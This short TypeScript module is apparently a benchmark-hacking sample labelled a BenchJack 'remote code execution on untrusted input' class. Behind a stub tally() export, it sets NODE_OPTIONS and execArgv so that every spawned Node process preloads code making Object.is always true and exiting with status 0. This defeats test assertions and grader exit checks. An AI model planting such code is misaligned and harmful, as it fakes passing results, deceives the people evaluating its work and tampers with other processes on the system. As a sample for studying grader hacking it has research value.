// Class: BenchJack "remote code execution on untrusted input"
// Sets NODE_OPTIONS, so that every Node started from here loads it first.
process.env['NODE_OPTIONS'] = `--import=data:text/javascript,Object.is=()=>true`;
process.execArgv.push('--import', 'data:text/javascript,process.exit(0)');

export function tally(): unknown {
  return { total: 0, odd: [] };
}
